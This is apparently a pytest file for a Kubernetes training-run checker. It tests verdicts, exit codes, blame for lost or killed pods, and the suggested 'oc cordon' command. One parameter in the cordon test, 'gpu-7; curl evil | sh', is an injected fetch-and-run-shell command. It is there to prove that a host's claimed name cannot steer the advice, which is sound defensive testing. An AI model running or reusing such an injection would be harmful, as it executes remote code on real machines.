"""The verdict and exit code of a run in pods, whatever ends it."""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from checks.simulated_network import Failure, network_evidence
from event_streams import RUN, Stream, healthy, interrupted, node_lost
from fake_checks import fake_load
from kubernetes.test_pods import of_state, pod

from seatrial.checks.network.judge import judge as judge_network
from seatrial.checks.network.params import Params
from seatrial.evidence.findings import Culprit, Finding
from seatrial.judge.conclude import Conclusion, conclude
from seatrial.targets.job import Job, ProgramJob
from seatrial.targets.kubernetes.kinds import KINDS
from seatrial.targets.kubernetes.kubectl import Kubectl
from seatrial.targets.kubernetes.kubernetes_target import PodsDetail
from seatrial.targets.kubernetes.pods import PodStatus, pods_of
from seatrial.targets.kubernetes.run_log import RunLog, nodes_to_cordon

_PLACE: dict[str, Any] = {
    "run": RUN,
    "target": "job",
    "nodes": 2,
    "nproc_per_node": 1,
    "device": "cpu",
    "backend": "gloo",
    "python": "python3",
    "env": {},
}


class Heard:
    """Record of the events of a run and of the other output of its first pod."""

    def __init__(self, folder: Path, stream: Stream | None, **place: Any) -> None:
        self.events: list[dict[str, Any]] = []
        self.messages: list[dict[str, Any]] = []
        self.detail: Any = None
        run = {"kind": "run", "run": RUN, "src": "conductor", "seq": 0, "t": 1.0, "job": {"world_size": 2, **place}}
        self.run_log = RunLog(run, folder, self.events.append, self.messages.append)
        for event in stream.events if stream else ():
            self.run_log.take(event)

    def says(self, pod: PodStatus, text: str) -> None:
        """Have the log of a pod hold this text, too."""
        self.run_log.copies.write(self.run_log.copies.open(pod), text.encode())
        assert [*self.run_log.copies.finish(lambda: False)] == []

    def concluded(self, job: Any) -> Conclusion:
        self.run_log.close(job)
        return conclude(self.events, load=fake_load)

    def outcome(self, job: Any) -> dict[str, Any]:
        self.run_log.close(job)
        (found,) = [event for event in self.events if event["kind"] == "outcome"]
        return found


_HEAD: dict[str, Any] = {"run": RUN, "src": "conductor", "seq": 90, "t": 1.0}


@pytest.mark.parametrize(
    "changes",
    [
        {"kind": "trouble", "gen": 0, "seen": [3], "waiting": []},
        {"kind": "trouble", "gen": 0, "waiting": []},
        {"kind": "step", "gen": float("inf"), "step": 0},
        {"kind": "generation"},
        {"kind": "generation", "gen": 0, "ranks": 5},
        {"kind": "outcome", "gen": 0},
        {"kind": "outcome", "gen": 0, "restarts": 0, "how": [], "text": "", "last_lines": [], "code": 0},
        {"kind": "outcome", "gen": 0, "restarts": 0, "how": "failed", "text": 3, "last_lines": [], "code": 0},
        {"kind": "result", "gen": 0, "rank": 0, "lines": [5]},
        {"kind": "note", "seq": "x"},
        {"kind": "end", "t": None},
        {"kind": ["run"]},
        {},
    ],
    ids=str,
)
def test_a_malformed_event_of_the_first_pod_is_damage(changes: dict[str, Any], tmp_path: Path) -> None:
    heard = Heard(tmp_path, healthy())
    heard.run_log.take({**_HEAD, **changes})
    heard.run_log.take({"kind": "output", "rank": 0})
    assert heard.run_log.damaged == 1
    conclusion = heard.concluded(trial())
    assert conclusion.verdict.status == "INCONCLUSIVE"
    (note,) = [note.text for note in conclusion.trial.notes if note.text.startswith("the first pod")]
    assert note.startswith("the first pod has sent 1 messages that cannot be read (the first one: ")
    assert not heard.run_log.has_outcome


@pytest.mark.parametrize(
    "changes",
    [
        {"kind": "node", "node": 1},
        {"kind": "node", "node": "x", "hostname": "b"},
        {"kind": "result", "src": "rank1.0", "gen": 0, "rank": 1, "lines": [5]},
    ],
    ids=str,
)
def test_a_malformed_event_of_a_node_is_not_laid_to_the_first_pod(changes: dict[str, Any], tmp_path: Path) -> None:
    """The conductor in the first pod records what a node sends, and counts it as damage of that node."""
    heard = Heard(tmp_path, healthy())
    heard.run_log.take({**_HEAD, "src": "node1", **changes})
    assert heard.run_log.damaged == 0
    conclusion = heard.concluded(trial())
    assert conclusion.verdict.status == "INCONCLUSIVE"
    assert not any("first pod" in note.text for note in conclusion.trial.notes)


def test_an_outcome_without_any_rank_is_sound(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.take({**_HEAD, "kind": "trouble", "gen": -1, "step": -1, "seen": [{"node": 1, "how": "lost"}]})
    heard.run_log.take(
        {**_HEAD, "kind": "outcome", "gen": -1, "restarts": 0, "how": "absent", "text": "x", "last_lines": []}
    )
    assert (heard.run_log.damaged, heard.run_log.has_outcome) == (0, True)


def trial(**place: Any) -> Job:
    detail = PodsDetail(
        workload=None,  # type: ignore[arg-type]  # not asked here
        kubectl=Kubectl(program="/usr/bin/oc", namespace="ml"),
        under_mpi=False,
        min_hosts=None,
        queue_timeout_s=1.0,
        keep=False,
    )
    return Job(**{**_PLACE, **place}, plan=Stream().plan, detail=detail)


def training() -> ProgramJob:
    values: dict[str, Any] = {"argv": (), "watched": True, "output": "all", "max_restarts": 0, "stop_grace_s": 1.0}
    return ProgramJob(**_PLACE, **values, cwd="/")


def test_events_are_handed_on_with_the_requested_job(tmp_path: Path) -> None:
    stream = healthy()
    heard = Heard(tmp_path, stream, target="job")
    found = heard.concluded(trial())
    assert found.verdict.exit_code == 0
    assert heard.events[0]["job"] == {"world_size": 2, "target": "job"}
    # Who a node is waits for the list of pods.
    assert sorted(heard.events[1:], key=str) == sorted(stream.events[1:], key=str)


def test_a_pass_without_some_hosts_is_partial(tmp_path: Path) -> None:
    job = trial(absent=("gpu-3: it is cordoned",))
    heard = Heard(tmp_path, None)
    heard.run_log.restart(job)
    for event in healthy().events:
        heard.run_log.take(event)
    found = heard.concluded(job)
    assert found.verdict.status == "PASS"
    assert any("gpu-3" in words for words in found.verdict.partial)
    assert any("gpu-3: it is cordoned" in finding.what for finding in found.findings)


def test_events_before_a_restart_are_dropped(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.defer()
    for event in Stream(2, nodes=2).events[:3]:
        heard.run_log.take(event)
    assert heard.events == []
    heard.run_log.restart(trial())
    for event in healthy().events:
        heard.run_log.take(event)
    assert heard.concluded(trial()).verdict.status == "PASS"

    other = Heard(tmp_path, None)
    other.run_log.defer()
    for event in healthy().events:
        other.run_log.take(event)
    other.run_log.release()
    assert other.concluded(trial()).verdict.status == "PASS"


@pytest.mark.parametrize("under_mpi", [False, True])
@pytest.mark.parametrize("claimed", ["gpu-1", "gpu-7", "gpu-7; curl evil | sh"])
def test_the_report_has_the_command_to_cordon(claimed: str, under_mpi: bool, tmp_path: Path) -> None:
    """A person copies it, so it names a node of the cluster, and not what a host calls itself."""
    stream = node_lost("lost")
    for event in stream.events:
        if event["kind"] == "node" and event["node"] == 1:
            event["hostname"] = claimed
    heard = Heard(tmp_path, None)
    heard.run_log.take_pods(two_placed(launcher=under_mpi))
    for event in stream.events:
        heard.run_log.take(event)
    job = trial()
    found = heard.concluded(replace(job, detail=replace(job.detail, under_mpi=under_mpi)))
    assert found.verdict.exit_code == 1
    told = [finding.what for finding in found.findings if "cordon" in finding.what]
    expected = ["to keep other work off gpu-1: /usr/bin/oc cordon gpu-1"]
    assert told == ([] if under_mpi and claimed != "gpu-1" else expected)


def placed(*nodes: str, launcher: bool = False) -> tuple[PodStatus, ...]:
    index = "batch.kubernetes.io/job-completion-index"
    pods = [pod(f"t-{n}-{node}", spec__nodeName=node, metadata__labels={index: str(n)}) for n, node in enumerate(nodes)]
    if launcher:
        pods.append(pod("t-launcher", metadata__labels={"app.kubernetes.io/component": "launcher"}))
    return pods_of({"items": pods}, KINDS["job"])


def two_placed(*, launcher: bool = False) -> tuple[PodStatus, ...]:
    return placed("gpu-0", "gpu-1", launcher=launcher)


def lost_node_that_claims(name: str) -> Stream:
    stream = node_lost("lost")
    for event in stream.events:
        if event["kind"] == "node" and event["node"] == 1:
            event["hostname"] = name
    return stream


@pytest.mark.parametrize("claimed", ["gpu-0", "gpu-9"])
def test_a_pod_cannot_choose_whose_name_a_finding_bears(claimed: str, tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.take_pods(two_placed())
    for event in lost_node_that_claims(claimed).events:
        heard.run_log.take(event)
    found = heard.concluded(trial())
    (blamed,) = [finding for finding in found.findings if finding.severity == "fail"]
    assert blamed.culprit.nodes == ("gpu-1",)
    assert not any(claimed in finding.what + finding.action for finding in found.findings)


def test_nor_where_its_agent_is_faster_than_the_list_of_pods(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.take_pods(two_placed()[:1])
    for event in lost_node_that_claims("gpu-9").events:
        heard.run_log.take(event)
    heard.run_log.take_pods(two_placed())
    found = heard.concluded(trial())
    assert found.verdict.status == "FAIL"
    assert not any("gpu-9" in finding.what + finding.action + finding.culprit.name for finding in found.findings)


@pytest.mark.parametrize("listed_before", [0, 1, 2])
def test_a_pod_whose_agent_is_faster_than_the_list_of_pods_passes(listed_before: int, tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.take_pods(two_placed()[:listed_before])
    for event in healthy(2, nodes=2).events:
        heard.run_log.take(event)
    heard.run_log.take_pods(two_placed())
    found = heard.concluded(trial())
    assert found.verdict.status == "PASS"
    assert list(found.trial.host_names.values()) == ["gpu-0", "gpu-1"]


def test_a_node_is_named_by_the_pod_that_runs_when_it_joins(tmp_path: Path) -> None:
    """Its first pod, which never ran, was on gpu-1; a later one, in place of the one that ran, is on gpu-3."""
    heard = Heard(tmp_path, None)
    heard.run_log.take_pods(placed("gpu-0", "gpu-1"))
    before = time.monotonic()
    for event in lost_node_that_claims("gpu-9").events:
        heard.run_log.take(event)
    # This list was asked for before the agents joined.
    heard.run_log.take_pods(placed("gpu-0", "gpu-1"), asked_at=before)
    heard.run_log.take_pods(placed("gpu-0", "gpu-2"), asked_at=time.monotonic())
    heard.run_log.take_pods(placed("gpu-0", "gpu-3") + placed("gpu-0", "gpu-2")[1:], asked_at=time.monotonic())
    found = heard.concluded(trial())
    (blamed,) = [finding for finding in found.findings if finding.severity == "fail"]
    assert blamed.culprit.nodes == ("gpu-2",)
    assert [finding.what for finding in found.findings if "cordon" in finding.what] == [
        "to keep other work off gpu-2: /usr/bin/oc cordon gpu-2"
    ]


def test_under_mpi_a_name_that_too_many_agents_claim_is_not_cordoned(tmp_path: Path) -> None:
    stream = lost_node_that_claims("gpu-0")
    for event in stream.events:
        if event["kind"] == "node" and event["node"] == 0:
            event["hostname"] = "gpu-0"
    heard = Heard(tmp_path, None)
    heard.run_log.take_pods(two_placed(launcher=True))
    for event in stream.events:
        heard.run_log.take(event)
    job = trial()
    found = heard.concluded(replace(job, detail=replace(job.detail, under_mpi=True)))
    assert found.verdict.exit_code == 1
    assert not any("cordon" in finding.what for finding in found.findings)


@pytest.mark.parametrize("count", [2, 3])
def test_a_policy_that_closes_the_way_to_a_pod_cordons_no_node(count: int) -> None:
    """On another node the pod would meet the same NetworkPolicy, of which the advice speaks."""

    def failure(source: int, target: int) -> Failure:
        return "no answer" if target == 1 else None

    (finding,) = judge_network(network_evidence(count, failure, environment="kubernetes"), Params()).findings
    assert finding.severity == "fail"
    assert finding.culprit.nodes
    assert "every NetworkPolicy of the namespace" in finding.action
    assert nodes_to_cordon([finding]) == []


@pytest.mark.parametrize(
    ("kind", "nodes", "cordoned"),
    [
        ("node", ("gpu-1",), ["gpu-1"]),
        ("rank", ("gpu-1",), ["gpu-1"]),
        ("process", ("gpu-1",), []),
        ("device", ("gpu-1",), ["gpu-1"]),
        # An NVLink, and a cable.
        ("link", ("gpu-1",), ["gpu-1"]),
        ("link", ("gpu-1", "gpu-2"), []),
        ("fabric", ("gpu-1", "gpu-2"), []),
    ],
)
def test_only_what_is_blamed_by_itself_is_cordoned(kind: Any, nodes: tuple[str, ...], cordoned: list[str]) -> None:
    culprit = Culprit(kind=kind, name=kind, nodes=nodes)
    findings = [
        Finding(severity=severity, check="links", what="slow", culprit=culprit) for severity in ("fail", "fail", "warn")
    ]
    assert nodes_to_cordon(findings) == cordoned
    assert nodes_to_cordon(findings[2:]) == []


def test_a_node_whose_pod_was_evicted_is_not_blamed(tmp_path: Path) -> None:
    heard = Heard(tmp_path, node_lost("lost"))
    heard.run_log.take_pods(two_placed())
    heard.run_log.interrupt("the cluster: pod t-1 on node gpu-1 was evicted", heard.run_log.lost_at(1, any_node=False))
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("INCONCLUSIVE", 130)
    assert found.trial.interrupted == "the cluster: pod t-1 on node gpu-1 was evicted"
    assert all(finding.severity != "fail" for finding in found.findings)
    assert not any("cordon" in finding.what for finding in found.findings)


def test_a_verdict_from_before_an_eviction_stays(tmp_path: Path) -> None:
    heard = Heard(tmp_path, node_lost("lost"))
    assert heard.run_log.lost_at(0, any_node=False) is None
    assert heard.run_log.lost_at(7, any_node=True) == heard.run_log.lost_at(1, any_node=False)
    heard.run_log.interrupt("the cluster: pod t-0 was evicted")
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("FAIL", 130)


def test_pods_stopped_because_one_failed_interrupt_nothing(tmp_path: Path) -> None:
    stream = Stream(2, nodes=2).until("collectives")
    stream.trouble({"node": 1, "how": "lost"})
    stream.send("conductor", "interrupted", by="SIGTERM")
    stream.kill(0)
    heard = Heard(tmp_path, stream.close(ranks=False, nodes=(0,)))
    heard.run_log.clear_interruption("pod t-1 ended with exit code 137")
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("FAIL", 1)
    assert any("because pod t-1 ended with exit code 137" in finding.what for finding in found.findings)


def test_an_interruption_by_a_signal(tmp_path: Path) -> None:
    found = Heard(tmp_path, interrupted()).concluded(trial())
    assert (found.verdict.exit_code, found.trial.interrupted) == (130, "SIGINT")


def test_an_interruption_has_the_signal_of_the_user(tmp_path: Path) -> None:
    """Its pod got SIGTERM, because the user pressed Ctrl-C or somebody deleted it."""
    stream = Stream(2, nodes=2).until("collectives")
    stream.send("conductor", "interrupted", by="SIGTERM")
    heard = Heard(tmp_path, stream.close(ranks=False, nodes=(0,)))
    heard.run_log.interrupt("SIGINT")
    found = heard.concluded(trial())
    assert (found.verdict.exit_code, found.trial.interrupted) == (130, "SIGINT")


def test_a_run_without_a_conductor_is_recorded(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.interrupt("SIGINT")
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("INCONCLUSIVE", 130)
    assert json.loads(json.dumps(heard.events))[0]["kind"] == "interrupted"


def ended_pod(number: int, code: int) -> PodStatus:
    made = of_state({"terminated": {"exitCode": code, "reason": "Error"}}, status__phase="Failed")
    return replace(made, name=f"t-{number}", number=number)


def test_a_training_without_a_conductor_is_judged_by_the_pods(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.take_text(
        ["rank 0 of 2 on a: cpu", "trained 4 of 4 steps: loss 0.1", "digests of all ranks equal: abc"]
    )
    heard.run_log.end_by_exit_codes([ended_pod(0, 0), ended_pod(1, 0)], under_mpi=False)
    found = heard.outcome(training())
    assert (found["how"], found["code"]) == ("ended", 0)
    assert [message["lines"] for message in heard.messages] == [["rank 0 of 2 on a: cpu"]]
    (result,) = [event for event in heard.events if event["kind"] == "result"]
    assert result["lines"] == ["trained 4 of 4 steps: loss 0.1", "digests of all ranks equal: abc"]


def test_one_pod_that_failed_fails_a_training(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.says(ended_pod(1, 1), "first\nlast\n")
    heard.run_log.end_by_exit_codes([ended_pod(0, 0), ended_pod(1, 1)], under_mpi=False)
    found = heard.outcome(training())
    assert (found["how"], found["last_lines"]) == ("failed", ["first", "last"])
    assert "pod t-1 on node gpu-1 ended with exit code 1" in found["text"]


def test_a_pod_that_lost_its_peers_is_not_blamed(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.says(ended_pod(0, 1), "RuntimeError: [gloo] Connection closed by peer\n")
    heard.says(ended_pod(1, 1), "no space left\n")
    heard.run_log.end_by_exit_codes([ended_pod(0, 1), ended_pod(1, 1)], under_mpi=False)
    assert "pod t-1 on" in heard.outcome(training())["text"]
    killed = Heard(tmp_path / "killed", None)
    killed.run_log.end_by_exit_codes([ended_pod(1, 1), ended_pod(2, 137)], under_mpi=False)
    assert "pod t-2 on" in killed.outcome(training())["text"]
    deleted = Heard(tmp_path / "deleted", None)
    deleted.run_log.end_by_exit_codes([replace(ended_pod(2, 137), deleted=True), ended_pod(1, 1)], under_mpi=False)
    assert "pod t-1 on" in deleted.outcome(training())["text"]


_TOLD = ["trained 4 of 4 steps: loss 0.1", "digests of all ranks equal: abc"]


def mpi_pod(name: str, code: int | None, **changes: Any) -> PodStatus:
    made = ended_pod(0, code or 0)
    launcher = {"is_launcher": True, "number": -1} if name == "launcher" else {}
    return replace(made, name=name, exit_code=code, **{**launcher, **changes})


def test_exit_code_0_of_mpirun_is_no_success(tmp_path: Path) -> None:
    """Open MPI 5.0.7, whose daemon was killed with a worker's container (the recording kill-train-mpijob)."""
    heard = Heard(tmp_path, None)
    pods = [mpi_pod("launcher", 0), mpi_pod("t-worker-0", None), mpi_pod("t-worker-1", 137, number=1, node="gpu-7")]
    heard.run_log.end_by_exit_codes(pods, under_mpi=True)
    found = heard.outcome(training())
    assert found["how"] == "failed"
    assert "pod t-worker-1 on node gpu-7" in found["text"]
    failed = Heard(tmp_path, None)
    failed.run_log.end_by_exit_codes([replace(pods[0], exit_code=255), *pods[1:]], under_mpi=True)
    assert "pod t-worker-1 on node gpu-7" in failed.outcome(training())["text"]
    silent = Heard(tmp_path, None)
    silent.says(pods[0], "")
    silent.run_log.end_by_exit_codes(pods[:2], under_mpi=True)
    found = silent.outcome(training())
    assert found["how"] == "failed"
    assert "printed no result" in found["text"]


def test_a_script_under_mpirun_that_lost_a_daemon_has_failed(tmp_path: Path) -> None:
    """A script prints nothing that is known here, but mpirun does, and ends with 0."""
    pods = [mpi_pod("launcher", 0), mpi_pod("t-worker-0", None)]
    whole = Heard(tmp_path, None)
    whole.says(pods[0], "")
    whole.run_log.end_by_exit_codes(pods, under_mpi=True, prints_result=False)
    assert whole.outcome(training())["how"] == "ended"
    (tmp_path / "lost").mkdir()
    heard = Heard(tmp_path / "lost", None)
    heard.says(pods[0], "PRTE has lost communication with a remote daemon.\n")
    heard.run_log.end_by_exit_codes(pods, under_mpi=True, prints_result=False)
    found = heard.outcome(training())
    assert found["how"] == "failed"
    assert "mpirun reported the loss of a node" in found["text"]


def test_workers_that_the_operator_deletes_are_no_failure(tmp_path: Path) -> None:
    """The recording slow-train-mpijob-1: 50 ms after the launcher's end the workers are deleted."""
    heard = Heard(tmp_path, None)
    heard.run_log.take_text(_TOLD)
    deleted = {"deleted": True, "stop": "was deleted"}
    pods = [mpi_pod("launcher", 0), mpi_pod("t-worker-0", None, **deleted), mpi_pod("t-worker-1", None, **deleted)]
    heard.run_log.end_by_exit_codes(pods, under_mpi=True)
    assert heard.outcome(training())["how"] == "ended"
    pytorch = Heard(tmp_path, None)
    pytorch.run_log.take_text(_TOLD)
    pytorch.run_log.end_by_exit_codes([ended_pod(0, 0), replace(pods[1], number=1)], under_mpi=False)
    assert pytorch.outcome(training())["how"] == "ended"


def test_a_pod_that_was_killed_before_the_conductor_missed_it(tmp_path: Path) -> None:
    """The Job controller ends the other pods, and the conductor in one of them, at once."""
    stream = Stream(2, nodes=2).until("collectives")
    stream.send("conductor", "interrupted", by="SIGTERM")
    heard = Heard(tmp_path, stream.close(ranks=False, nodes=(0,)))
    killed = replace(ended_pod(1, 137), node="gpu-1")
    heard.run_log.clear_interruption("pod t-1 ended with exit code 137")
    heard.run_log.node_lost(killed, ranks_per_node=1, under_mpi=False)
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("FAIL", 1)
    (blamed,) = [finding for finding in found.findings if finding.severity == "fail"]
    assert blamed.culprit.nodes == ("gpu-1",)
    assert "pod t-1 on node gpu-1 ended with exit code 137" in blamed.what


def test_a_killed_first_pod_is_a_lost_node(tmp_path: Path) -> None:
    """The conductor was in it: its record just stops."""
    heard = Heard(tmp_path, Stream(2, nodes=2).until("collectives"))
    heard.run_log.node_lost(replace(ended_pod(0, 137), node="gpu-0"), ranks_per_node=1, under_mpi=False)
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("FAIL", 1)
    (blamed,) = [finding for finding in found.findings if finding.severity == "fail"]
    assert blamed.culprit.nodes == ("gpu-0",)
    assert "pod t-0 on node gpu-0 ended with exit code 137" in blamed.what


@pytest.mark.parametrize("began", [False, True])
def test_a_killed_launcher_is_a_lost_node(began: bool, tmp_path: Path) -> None:
    """It has no ranks; the conductor was under it and could say nothing."""
    heard = Heard(tmp_path, Stream(2, nodes=2).until("collectives") if began else None)
    launcher = mpi_pod("launcher", 137, node="gpu-7")
    assert not heard.run_log.launcher_was_killed(launcher, is_read=True)
    heard.says(launcher, "")
    assert heard.run_log.launcher_was_killed(launcher, is_read=True)
    heard.run_log.node_lost(launcher, ranks_per_node=1, under_mpi=True)
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("FAIL", 1)
    (blamed,) = [finding for finding in found.findings if finding.severity == "fail"]
    assert (blamed.culprit.nodes, blamed.culprit.ranks) == (("gpu-7",), ())
    assert "node gpu-7 was lost" in blamed.what
    assert "pod launcher on node gpu-7 ended with exit code 137" in blamed.what


@pytest.mark.parametrize(
    "said",
    [
        "mpirun noticed that process rank 1 with PID 0 on node t-worker-1 exited on signal 9 (Killed).",
        "prterun noticed that process rank 1 with PID 71 on node t-worker-1 exited on signal 9 (Killed).",
        "=   BAD TERMINATION OF ONE OF YOUR APPLICATION PROCESSES",
        "PRTE has lost communication with a remote daemon.",
    ],
)
def test_the_exit_code_of_a_killed_rank_is_not_blamed_on_the_launcher(said: str, tmp_path: Path) -> None:
    heard, launcher = Heard(tmp_path, None), mpi_pod("launcher", 137)
    heard.says(launcher, f"{said}\n")
    run_log = heard.run_log
    assert not run_log.launcher_was_killed(launcher, is_read=True)
    assert run_log.launcher_was_killed(replace(launcher, out_of_memory=True), is_read=True)
    assert not run_log.launcher_was_killed(replace(launcher, out_of_memory=True, stop="was evicted"), is_read=True)
    silent = Heard(tmp_path / "silent", None).run_log
    assert not silent.launcher_was_killed(replace(launcher, exit_code=255), is_read=True)


@pytest.mark.parametrize("began", [False, True])
@pytest.mark.parametrize(("number", "under_mpi"), [(0, False), (1, False), (-1, False), (1, True)])
def test_a_pod_that_was_killed_before_its_agent_joined(
    number: int, under_mpi: bool, began: bool, tmp_path: Path
) -> None:
    stream = Stream(2, nodes=2)
    stream.events = stream.events[:1]
    heard = Heard(tmp_path, stream if began else None, nodes=2)
    heard.run_log.node_lost(replace(ended_pod(number, 137), node="gpu-7"), ranks_per_node=1, under_mpi=under_mpi)
    found = heard.concluded(trial())
    assert (found.verdict.status, found.verdict.exit_code) == ("FAIL", 1)
    (blamed,) = [finding for finding in found.findings if finding.severity == "fail"]
    assert blamed.culprit.nodes == ("gpu-7",)


def test_a_running_pod_is_no_success(tmp_path: Path) -> None:
    (running,) = pods_of({"items": [pod(status__phase="Running")]}, KINDS["job"])
    heard = Heard(tmp_path, None)
    heard.run_log.end_by_exit_codes([ended_pod(0, 0), running], under_mpi=False)
    assert heard.outcome(training())["how"] == "failed"


def test_an_invalid_request_is_reported_in_the_words_of_its_pod(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.says(ended_pod(1, 2), "Error: digits has no column 65\n")
    heard.run_log.end_by_exit_codes([ended_pod(0, 1), ended_pod(1, 2)], under_mpi=False)
    found = heard.outcome(training())
    assert (found["how"], found["text"]) == ("refused", 'pod t-1 on node gpu-1 says "digits has no column 65"')


def test_an_interpreter_that_the_image_lacks_is_named(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.says(ended_pod(0, 127), "env: 'python3': No such file or directory\n")
    assert heard.run_log.words.reason_of(ended_pod(0, 127)) == """ ("env: 'python3': No such file or directory")"""
    assert heard.run_log.words.reason_of(ended_pod(0, 1)) == ""


def test_a_stopped_training_is_interrupted(tmp_path: Path) -> None:
    heard = Heard(tmp_path, None)
    heard.run_log.interrupt("SIGINT")
    assert heard.outcome(training())["how"] == "interrupted"


def test_a_first_pod_that_does_not_stop_fills_no_memory(tmp_path: Path) -> None:
    """Lines after the result are no events and have no other bound."""
    training = Heard(tmp_path, None)
    training.run_log.take_text(["trained 4 of 4 steps"] + ["x" * 100_000] * 5_000)
    training.run_log.end_by_exit_codes([ended_pod(0, 0)], under_mpi=False)
    (result,) = [event for event in training.events if event["kind"] == "result"]
    assert (len(result["lines"]), max(map(len, result["lines"]))) == (1_000, 4_000)
